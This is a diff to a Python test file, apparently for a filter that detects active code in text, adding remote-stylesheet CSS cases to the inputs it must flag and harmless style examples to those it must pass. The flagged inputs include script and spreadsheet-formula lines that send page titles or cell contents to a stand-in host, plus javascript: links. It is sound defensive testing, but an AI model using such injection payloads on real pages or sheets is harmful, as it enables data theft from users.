@@ -88,6 +88,8 @@ def test_a_picture_in_a_heading_is_none_of_its_words_where_there_are_others(head
     [
         "<script>fetch('//x.example/?d=' + document.title)</script>",
         "<SCRIPT>\nlocation = '//x.example'\n</SCRIPT>",
+        "<style>@import url(https://x.example/a.css);</style>",
+        "<style>p { background: url('//x.example/a') }</style>",
         "[the tables](javascript:alert(1))",
         '<a href="javascript:alert(1)">',
         '=hyperlink("https://x.example/?"&A1)',
@@ -103,6 +105,8 @@ def test_code_in_a_text_is_named_however_it_is_written(code: str) -> None:
     [
         "Put your code between <script> and </script>, and close each tag.",
         "The tag <script src=app.js> loads a file; <img src=https://a.example/l.png> shows one.",
+        "Write your rules between <style> and </style>, or load a sheet with @import.",
+        "<style>p { color: red }</style> makes a paragraph red.",
         "JavaScript: a language. Data: text, html and more.",
         "![Level](https://canal.example/level.png)",
     ],
